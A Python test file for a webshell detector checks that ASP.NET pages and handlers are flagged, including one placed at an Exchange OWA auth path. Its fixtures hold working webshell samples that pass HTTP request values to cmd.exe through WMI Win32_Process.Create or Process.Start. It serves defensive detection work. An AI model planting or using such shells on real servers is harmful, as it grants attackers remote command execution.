"""Two ways a shell's code went unread: WMI reached through its moniker
(`GetObject("winmgmts:...:Win32_Process").Create(...)`, or the services object's
`Get("Win32_Process")`), and a handler's source kept under a page's name with no directive or
markup, read as a source file of its language (docs/detection/webshell-code.md, "WMI by moniker,
source under a page's name")."""

from __future__ import annotations

from pathlib import Path

import pytest

from code_support import assert_benign, assert_found, run, vb_page
from exhunt.codeanalysis.extract import is_bare_source
from files_support import by_rule, hunt, server_file

PROCESS = "EXH-WS-CODE-PROCESS"

SHELLS = [
    (
        "wmi-moniker.aspx",
        vb_page(
            'Dim p = GetObject("winmgmts:root\\cimv2:Win32_Process")\n'
            'p.Create("cmd.exe /c " & Request.Form("c") & " > c:\\temp\\o.txt", Nothing, Nothing, 0)'
        ),
        ["form field 'c'", "Win32_Process.Create"],
    ),
    (
        "wmi-services.aspx",
        vb_page(
            'Dim svc = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2")\n'
            'Dim proc = svc.Get("Win32_Process")\n'
            'Dim cmd As String = Request.QueryString("q")\n'
            "proc.Create(cmd, Nothing, Nothing, 0)"
        ),
        ["query parameter 'q'", "Win32_Process.Create"],
    ),
    (
        "wmi-chained.aspx",
        vb_page('GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create(Request("x"), Nothing, Nothing, 0)'),
        ["request parameter 'x'", "Win32_Process.Create"],
    ),
    (
        "handler-source.aspx",
        """using System;
using System.Web;
using System.Diagnostics;

public class Handler : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        var psi = new ProcessStartInfo("cmd.exe", "/c " + context.Request.Form["z"]);
        psi.RedirectStandardOutput = true;
        psi.UseShellExecute = false;
        context.Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
    }
    public bool IsReusable { get { return false; } }
}
""",
        ["form field 'z'", "runs it as a command", "in an HTTP handler, in source code kept under a page's name"],
    ),
    (
        "handler-source.vb.ashx",
        """' a handler with its directive line taken off
Imports System.Web
Imports System.Diagnostics

Public Class H
    Implements IHttpHandler
    Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest
        Process.Start("cmd.exe", "/c " & context.Request("c"))
    End Sub
    Public ReadOnly Property IsReusable() As Boolean Implements IHttpHandler.IsReusable
        Get
            Return False
        End Get
    End Property
End Class
""",
        ["request parameter 'c'", "Process.Start"],
    ),
]


@pytest.mark.parametrize(("name", "code", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_wmi_monikers_and_source_under_page_names_are_read(name: str, code: str, words: list[str]) -> None:
    assert_found(name, code, PROCESS, words)


BENIGN = [
    (
        "wmi-query.aspx",
        vb_page(
            'Dim svc = GetObject("winmgmts:\\\\.\\root\\cimv2")\n'
            'For Each os In svc.ExecQuery("Select Caption From Win32_OperatingSystem")\n'
            "  Response.Write(os.Caption)\nNext"
        ),
    ),
    (
        "wmi-fixed.aspx",
        vb_page('GetObject("winmgmts:root\\cimv2:Win32_Process").Create("notepad.exe", Nothing, Nothing, 0)'),
    ),
    (
        "readme.aspx",
        "Using this page you can upload a report; class notes follow.\n<p>Nothing here runs.</p>\n",
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_wmi_queries_fixed_commands_and_prose_stay_quiet(name: str, code: str) -> None:
    assert_benign(name, code)


def test_source_under_a_page_name_is_read_as_a_source_file() -> None:
    """Admin code in a class that is no handler keeps a source file's rules: its file writes are
    not reported (as in a .cs file), and the report says the file was read as source."""
    admin = """using System.IO;
namespace Tools {
    public class Export {
        public void Save(string path, string body) { File.WriteAllText(path, body); }
    }
}
"""
    report = run("export.aspx", admin)
    assert report.units == 1
    assert [c.rule_id for c in report.capabilities] == []


def test_a_page_with_a_directive_is_not_bare_source() -> None:
    page = '<%@ Page Language="C#" %>\nusing System;\n<% Response.Write(Request["x"]); %>'
    report = run("p.aspx", page)
    assert report.units == 1  # the `<% %>` block, not the whole file read as C#


def test_a_handlers_source_in_an_auth_folder_is_found_by_the_hunt(tmp_path: Path) -> None:
    """End to end through the file hunt: the byte prefilter lets the bare source through and the
    finding names the handler's flow and lines."""
    path = r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorFE.aspx"
    code = next(c for n, c, _ in SHELLS if n == "handler-source.aspx")
    found = by_rule(hunt(server_file(tmp_path, path, code.encode())))
    assert PROCESS in found
    assert found[PROCESS].severity.rank >= 3
    assert "form field 'z'" in str(found[PROCESS].details)
    assert found[PROCESS].evidence.line is not None


def test_leading_comments_are_skipped_in_one_pass() -> None:
    """Comments before the source are skipped each to its first end mark: a run of `/**/` that a
    backtracking pattern would split every possible way (2^n) is read in one pass."""
    assert not is_bare_source("/**/" * 60 + "x")
    assert not is_bare_source("/**/" * 50_000 + "using System;")  # past the header's bound
    assert is_bare_source("/**/" * 60 + "using System;")
    assert is_bare_source("\ufeff// a handler\n' and a VB comment\n/* and a block */\nnamespace N { }")
    assert not is_bare_source("/* never closed " + "x" * 100_000)
